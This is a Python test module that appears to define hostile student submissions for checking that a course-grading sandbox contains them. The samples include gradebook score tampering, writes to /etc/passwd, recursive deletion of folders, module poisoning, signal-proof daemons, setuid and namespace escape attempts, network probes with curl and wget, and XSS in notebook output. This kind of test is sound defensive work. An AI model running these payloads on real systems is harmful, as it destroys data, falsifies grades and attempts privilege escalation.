"""Submissions that reach beyond their sandbox: files, the network, processes that stay."""

from __future__ import annotations

from submissions.variant import Variant, one_lost

_GRADEBOOK = """
import os, sqlite3
tried = changed = 0
places = ["@ROOT@/gradebook.db", "gradebook.db", "../gradebook.db", "../../gradebook.db",
          os.path.expanduser("~/gradebook.db")]
for place in places:
    tried += 1
    try:
        if not os.path.exists(place):
            continue
        book = sqlite3.connect(place)
        book.execute("update grade set manual_score = 100, extra_credit = 100, auto_score = 100")
        book.commit()
        changed += 1
    except (sqlite3.Error, OSError) as error:
        print(error)
print("LEAK" if changed else "no such file", tried)
"""
_API = """
import sys
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@ROOT@/gradebook.db") as book:
        for grade in book.db.query(__import__("nbgrader.api").api.Grade):
            grade.extra_credit = 100
        book.db.commit()
    print("LEAK")
except BaseException as error:
    print("no such file", type(error).__name__)
"""
_WRITES = """
import os
tried = 0
for path in ("@ROOT@/grades.csv", "@ROOT@/_build/grading/records/everyday/me.json",
             "@ROOT@/solutions/everyday.md", "@ROOT@/nbgrader_config.py", "@ROOT@/submitted/x",
             "/etc/passwd", "/usr/bin/python3", "/course/course_lib/checks.py",
             __import__("torch").__file__, __import__("course_lib").__file__,
             "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/cgroup.procs", "/dev/kmsg"):
    tried += 1
    for flags in (os.O_WRONLY, os.O_WRONLY | os.O_CREAT | os.O_TRUNC):
        try:
            os.write(os.open(path, flags), b"LEAK")
            print("LEAK", path)
        except OSError:
            pass
print("no such file", tried)
"""
_BOOK = [
    Variant("gradebook-write", name, first=code, prints="no such file", extra=name == "anything")
    for name, code in (("sqlite", _GRADEBOOK), ("nbgrader", _API), ("anything", _WRITES))
]

_NETWORK = {
    "tcp and dns": """
import socket, time
began, refused = time.monotonic(), 0
for address in (("1.1.1.1", 53), ("127.0.0.1", @PORT@), ("localhost", @PORT@), ("10.0.0.1", 80)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            link = socket.socket(socket.AF_INET, kind)
            link.settimeout(5)
            link.connect(address)
            link.send(b"LEAK")
            print("LEAK", address)
        except OSError:
            refused += 1
for name in ("pypi.org", "example.com"):
    try:
        print("LEAK", socket.getaddrinfo(name, 80))
    except OSError:
        refused += 1
print("refused", refused, "LEAK slow" if time.monotonic() - began > 3 else "")
""",
    "pip and curl": """
import subprocess, sys, time
began = time.monotonic()
!curl --max-time 20 http://127.0.0.1:@PORT@/ && echo LE""AK
!wget -q -T 20 -t 1 -O - http://127.0.0.1:@PORT@/ && echo LE""AK
command = [sys.executable, "-m", "pip", "download", "--no-deps", "--retries", "0",
           "--index-url", "http://127.0.0.1:@PORT@/simple", "left-pad-of-nobody"]
done = subprocess.run(command, capture_output=True)
print("refused", done.returncode != 0, "LEAK slow" if time.monotonic() - began > 15 else "")
""",
    "other families": """
import ctypes, os, socket
refused = 0
for family in range(0, 46):
    for kind in (1, 2, 3, 5):
        try:
            link = socket.socket(family, kind)
        except OSError:
            refused += 1
            continue
        if family != socket.AF_UNIX:
            print("LEAK", family, kind)
for name in ("/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0",
             "\\0/tmp/.X11-unix/X0", "@ROOT@/talk", "\\0course-tests-talk"):
    try:
        link = socket.socket(socket.AF_UNIX)
        link.connect(name)
        print("LEAK", name)
    except OSError:
        refused += 1
print("refused", refused)
""",
    "urllib": """
import time, urllib.request
began = time.monotonic()
for url in ("http://127.0.0.1:@PORT@/", "https://pypi.org/", "file://@ROOT@/solutions/everyday.md"):
    try:
        print("LEAK", urllib.request.urlopen(url, timeout=20).read(100))
    except OSError as error:
        print("refused", error)
print("LEAK slow" if time.monotonic() - began > 3 else "")
""",
}
_NET = [
    Variant("network", name, first=code, prints="refused", clock=number == 1, extra=number > 1)
    for number, (name, code) in enumerate(_NETWORK.items())
]

_NAME = """
import ctypes, os, signal, subprocess, sys, time
def rename():
    ctypes.CDLL(None).prctl(15, b"course-left")
"""
_DAEMONS = {
    "forked twice": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        rename()
        for number in signal.valid_signals():
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(1000)
    os._exit(0)
print("left one")
""",
    "holds the pipes": """
subprocess.Popen([sys.executable, "-c", "import ctypes, time\\n"
    "ctypes.CDLL(None).prctl(15, b'course-left')\\ntime.sleep(1000)"],
    start_new_session=True, close_fds=False)
subprocess.Popen(["sh", "-c", "exec -a course-left sleep 1000 & exec -a course-left sleep 1000"])
print("left one")
""",
    "talks on the grader's line": """
if os.fork() == 0:
    rename()
    while True:
        for fd in range(3, 256):
            try:
                os.write(fd, b"x" * 100)
                os.read(fd, 1)
            except OSError:
                pass
        time.sleep(0.01)
print("left one")
""",
    "a thread that never ends": """
import threading
threading.Thread(target=time.sleep, args=(1000,)).start()
print("left one")
""",
    "grandchildren without end": """
def again(depth):
    rename()
    time.sleep(0.02)
    if depth and os.fork() == 0:
        again(depth - 1)
    os._exit(0)
if os.fork() == 0:
    again(300)
print("left one")
""",
}
_STAY = [
    Variant("surviving-daemon", name, first=_NAME + code, prints="left one", extra=number > 1)
    for number, (name, code) in enumerate(_DAEMONS.items())
]

_SPOILS = {
    "deletes all it can": """
import shutil, os
for folder in ("/work", "/tmp", "/dev/shm", "/course", "@ROOT@", os.path.expanduser("~")):
    shutil.rmtree(folder, ignore_errors=True)
print("done", os.path.exists("@ROOT@") and "LEAK")
""",
    "poisons what others import": """
import numpy, os, sys, torch, builtins, course_lib.checks
numpy.mean = numpy.sum = lambda *args, **kwargs: 0.0
for module in (numpy, torch, course_lib, os):
    for folder in (os.path.dirname(module.__file__), os.path.dirname(module.__file__) + "/.."):
        for name in ("sitecustomize.py", "usercustomize.py", "poison.pth", "__init__.py"):
            try:
                open(os.path.join(folder, name), "a").write("raise SystemExit\\n")
                print("LEAK", folder, name)
            except OSError:
                pass
print("done")
""",
    "changes its limits": """
import os, resource, signal
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        which = getattr(resource, name)
        soft, hard = resource.getrlimit(which)
        for value in (resource.RLIM_INFINITY, hard):
            try:
                resource.setrlimit(which, (value, value))
            except (OSError, ValueError):
                pass
try:
    os.nice(-20)
    print("LEAK")
except OSError:
    pass
for call in (os.setuid, os.setgid):
    try:
        call(0)
        print("LEAK root")
    except OSError:
        pass
print("done")
""",
    "mounts and namespaces": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000):
    if libc.unshare(flag) == 0:
        print("LEAK unshare", hex(flag))
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.umount2(b"/proc", 2) == 0:
    print("LEAK mount")
if libc.chroot(b"/tmp") == 0 or libc.sethostname(b"x", 1) == 0:
    print("LEAK chroot")
for name in ("null", "sda", "mem", "fuse", "kvm"):
    try:
        os.mknod("/tmp/" + name, 0o20666, os.makedev(1, 1))
        print("LEAK device", name)
    except OSError:
        pass
print("done")
""",
    "signals everybody": """
import os, signal
for pid in (1, 2, 3, os.getppid()):
    if pid == os.getpid():
        continue
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT):
        try:
            os.kill(pid, number)
        except OSError:
            pass
print("done")
""",
    "writes a script into its output": """
from IPython.display import HTML, Javascript, SVG, display
attack = "<script>window.stolen = 'LE' + 'AK'</script><img src=x onerror=alert(1)>"
print(attack)
display(HTML(attack), Javascript("window.stolen = 1"), SVG("<svg onload='alert(1)'/>"))
print("done \\x1b[8mhidden\\x1b[0m \\ud83d")
""",
}
_SPOILED = [
    Variant("spoils", name, first=code, prints="done", extra=True) for name, code in _SPOILS.items()
] + [
    one_lost(
        "spoils",
        "stops itself",
        "import os, signal\ndef mean(numbers):\n    os.kill(os.getpid(), signal.SIGSTOP)",
        "timeout error",
        extra=True,
    ),
    one_lost(
        "spoils",
        "fills the disk",
        """def mean(numbers):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(10**7))
    return 2.0
""",
        "error memory",
        extra=True,
    ),
]

VARIANTS = _BOOK + _NET + _STAY + _SPOILED
